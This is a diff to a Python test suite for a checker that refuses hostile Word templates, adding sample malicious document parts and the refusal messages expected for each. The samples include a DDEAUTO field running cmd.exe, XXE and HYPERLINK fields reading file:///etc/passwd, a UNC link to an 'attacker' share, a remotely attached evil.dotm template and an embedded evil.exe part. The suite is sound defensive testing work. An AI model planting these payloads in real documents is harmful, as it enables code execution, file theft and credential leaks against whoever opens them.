@@ -475,6 +475,32 @@ def with_relationship(kind: str, target: str, *, external: bool = True, rels: st
             else empty.encode()}
 
 
+def body(xml: str, rel: tuple[str, str] | None = None) -> dict[str, Any]:
+    """A change for `repack` adding `xml` at the end of the document's body (and a relationship rId99 of a kind to
+    an external target); rId3 is the styles'."""
+    changes = with_relationship(*rel) if rel else {}
+    document = {"word/document.xml": lambda data: data.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)}
+    return {**changes, **document}
+
+
+PICTURE = ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="99" name="x"/><a:graphic '
+           'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
+           'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
+           'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99" '
+           'name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {}/></pic:blipFill><pic:spPr/></pic:pic>'
+           '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
+COMPLEX = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {} </w:instrText>'
+           '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar '
+           'w:fldCharType="end"/></w:r></w:p>')
+SIMPLE = '<w:p><w:fldSimple w:instr="{}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
+FIELDS = {
+    'INCLUDETEXT "/tmp/x.txt"': COMPLEX.format('INCLUDETEXT "/tmp/x.txt"'),
+    'includepicture "file:///c:/x.png" \\d': COMPLEX.format('includepicture "file:///c:/x.png" \\d'),
+    'INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d': SIMPLE.format("INCLUDEPICTURE &quot;http://127.0.0.1:9/x.png&quot; \\d"),
+    "DDEAUTO c:\\windows\\system32\\cmd.exe": COMPLEX.format('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
+    **{f"{kind} x": COMPLEX.format(f'{kind} "c:/x.docx"') for kind in ("DDE", "LINK", "IMPORT", "INCLUDE", "RD",
+                                                                       "AUTOTEXT", "MACROBUTTON", "PRINT", "USERNAME")},
+}
 DOCTYPE = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<r>&e;</r>'
 HOSTILE_PACKAGES = {
     "linked picture": (with_relationship("image", "file:///etc/passwd"),
@@ -505,6 +531,48 @@ HOSTILE_PACKAGES = {
         b"application/vnd.ms-word.document.macroEnabled.main+xml")},
              "the file is macro-enabled (application/vnd.ms-word.document.macroEnabled.main+xml)"),
     "DOCTYPE in customXml": ({"customXml/item1.xml": DOCTYPE}, "the part customXml/item1.xml has a DOCTYPE"),
+    "part of a made-up type": ({**with_relationship("x", "payload/evil.exe", external=False),
+                                "[Content_Types].xml": lambda data: data.replace(
+                                    b"</Types>", b'<Default Extension="exe" ContentType="application/x-msdownload"/></Types>'),
+                                "word/payload/evil.exe": b"MZ"},
+                               "the part word/payload/evil.exe (application/x-msdownload) is not one Word writes for a "
+                               "document; save the file again in Word without it"),
+    "relationship of a made-up type": ({RELS: lambda data: data.replace(b"</Relationships>", b'<Relationship Id="rId99" '
+                                        b'Type="http://example.com/anything" Target="styles.xml"/></Relationships>')},
+                                       "the part word/document.xml refers to styles.xml by a relationship Word does not "
+                                       "write for a document (http://example.com/anything)"),
+    "part without a content type": ({"word/media/x.bin": b"\0"},
+                                    "the part word/media/x.bin (no content type) is not one Word writes"),
+    "embedded font": ({**with_relationship("font", "fonts/font1.odttf", external=False,
+                                           rels="word/_rels/fontTable.xml.rels"), "word/fonts/font1.odttf": b"\0"},
+                      "the part word/fontTable.xml embeds a font (fonts/font1.odttf); in Word, untick 'Embed fonts"),
+    "picture linked": (body(PICTURE.format('r:link="rId99"'), rel=("hyperlink", "http://127.0.0.1:9/e2.png")),
+                       "the part word/document.xml refers from <blip> to 'http://127.0.0.1:9/e2.png' (hyperlink, outside "
+                       "the file), which is not what <blip> may refer to"),
+    "picture from a web link": (body(PICTURE.format('r:embed="rId99"'), rel=("hyperlink", "https://127.0.0.1:9/x.png")),
+                                "refers from <blip> to 'https://127.0.0.1:9/x.png' (hyperlink, outside the file)"),
+    "picture from another part": (body(PICTURE.format('r:embed="rId3"'), rel=None),
+                                  "refers from <blip> to 'styles.xml' (styles), which is not what <blip> may refer to"),
+    "template attached by a web link": ({"word/settings.xml": lambda data: data.replace(
+        b"</w:settings>", b'<w:attachedTemplate xmlns:r="%s" r:id="rId99"/></w:settings>' % OFFICE_RELS.encode()),
+        **with_relationship("hyperlink", "https://example.org/evil.dotm", rels="word/_rels/settings.xml.rels")},
+        "the part word/settings.xml refers from <attachedTemplate> to 'https://example.org/evil.dotm' (hyperlink, "
+        "outside the file)"),
+    **{f"field {code}": (body(field), f"the part word/document.xml has a field {code.split()[0].upper()} ")
+       for code, field in FIELDS.items()},
+    "field made of two runs": (body(COMPLEX.format("DDE").replace(" DDE </w:instrText>", " DDE</w:instrText></w:r><w:r>"
+                                                                   "<w:instrText>AUTO cmd.exe</w:instrText>", 1)),
+                               "has a field DDEAUTO ('DDEAUTO cmd.exe')"),
+    "field whose type another field makes": (body(COMPLEX.format("").replace(
+        "<w:r><w:fldChar w:fldCharType=\"separate\"/>", COMPLEX.format("QUOTE INCLUDETEXT") + "<w:r><w:fldChar "
+        "w:fldCharType=\"separate\"/>", 1)), "has a field (of no type)"),
+    "field in the header": ({"word/header1.xml": lambda data: data.replace(
+        b"</w:hdr>", COMPLEX.format('INCLUDETEXT "c:/x.txt"').encode() + b"</w:hdr>")},
+                            "the part word/header1.xml has a field INCLUDETEXT"),
+    "file HYPERLINK field": (body(SIMPLE.format("HYPERLINK &quot;file:///etc/passwd&quot;")),
+                             "has a field HYPERLINK ('HYPERLINK \"file:///etc/passwd\"') to something other than a web"),
+    "UNC HYPERLINK field": (body(COMPLEX.format(r'HYPERLINK "\\\\attacker\\share\\x"')),
+                            "has a field HYPERLINK"),
     "DOCTYPE in the document": ({"word/document.xml": lambda data: data.replace(
         b"?>", b'?><!DOCTYPE w:document SYSTEM "http://example.org/x.dtd">', 1)},
                                 "the part word/document.xml has a DOCTYPE"),
@@ -548,7 +616,7 @@ def test_a_template_with_a_huge_part_is_refused_quickly_in_little_memory(tmp_pat
         peak = tracemalloc.get_traced_memory()[1]
     finally:
         tracemalloc.stop()
-    assert problems == ["unpacks to more than 200 MB (the part word/media/image9.png alone to 1500 MB); remove what "
+    assert problems == ["unpacks to more than 50 MB (the part word/media/image9.png alone to 1500 MB); remove what "
                         "makes it so large, or open it in Word or Excel and save it again"]
     assert peak < 20 * 1024 * 1024 and took < 5
 
@@ -572,3 +640,23 @@ def test_too_many_parts_are_refused(tmp_path: Path) -> None:
     path = repack(DELAFTALE, tmp_path / "delaftale.docx", {f"customXml/x{i}.bin": b"" for i in range(2000)})
     (problem,) = messages(check_template(path, used_by(DELAFTALE)))
     assert problem == "holds 2019 parts, more than the 2000 a Word or Excel file needs; open it in Word or Excel and save it again"
+
+
+def test_pictures_links_and_the_fields_a_document_numbers_itself_with_are_kept(tmp_path: Path) -> None:
+    doc, path = copy_of(DELAFTALE, tmp_path)
+    doc.add_picture(str(Path(__file__).parents[1] / "fixtures/areas/solhaven/figurer/omraade.png"))
+    doc.save(str(path))
+    fields = [COMPLEX.format(code) for code in ("PAGE", "SEQ Figur \\* ARABIC", "REF _Ref1 \\h", "= 1 + 2",
+                                                'HYPERLINK "https://lbf.dk/" \\o "LBF"', 'HYPERLINK \\l "_Ref1"',
+                                                'DATE \\@ "d. MMMM yyyy"', "STYLEREF 1 \\n", "TOC \\o \"1-3\"")]
+    kept = repack(path, tmp_path / "kept.docx", body("".join(fields) + SIMPLE.format("NUMPAGES")))
+    assert check_template(kept, used_by(DELAFTALE)) == []
+
+
+def test_a_huge_xml_part_is_refused_before_it_is_parsed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = with_zeros(DELAFTALE, tmp_path / "delaftale.docx", "customXml/item9.xml", 30, monkeypatch)
+    start = time.monotonic()
+    assert messages(check_template(path, used_by(DELAFTALE))) == [
+        "the part customXml/item9.xml is 30 MB of XML, more than the 20 MB a part of a Word file needs; remove what "
+        "makes it so large, or save the file again in Word without it"]
+    assert time.monotonic() - start < 5
